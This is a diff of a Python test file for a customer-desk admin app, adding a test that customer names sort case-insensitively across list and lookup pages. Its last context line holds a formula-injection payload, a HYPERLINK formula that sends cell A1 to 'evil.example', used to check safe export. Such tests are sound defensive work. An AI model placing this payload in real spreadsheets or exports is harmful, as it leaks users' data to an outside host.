@@ -29,6 +29,18 @@ def test_register_a_customer_and_find_them(stored_desk: Desk) -> None:
     assert "Globex Ltd" in page and "buyers@globex.example" in page
 
 
+def test_names_sort_regardless_of_case_in_the_list_and_the_pickers(stored_panel: Panel) -> None:
+    app, now = stored_panel.services.app, stored_panel.clock.now()
+    for name in ("Zeta Corp", "acme ltd", "Beta Inc"):
+        app.register_customer(name=name, occurred_at=now, actor="system:test")
+    stored_panel.catch_up()
+    agent = stored_panel.client("agent")
+    for url in ("/admin/customers/", "/admin/customers/?sort=0", "/admin/cases/ajax/lookup/?name=customer_id&query="):
+        page = agent.get(url).get_data(as_text=True)
+        shown = [page.index(n) for n in ("acme ltd", "Beta Inc", "Zeta Corp")]
+        assert shown == sorted(shown), url  # "acme" among the A's, not after "Zeta"
+
+
 def test_a_name_typed_as_a_formula_is_exported_as_text(stored_desk: Desk) -> None:
     panel, agent = stored_desk
     name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
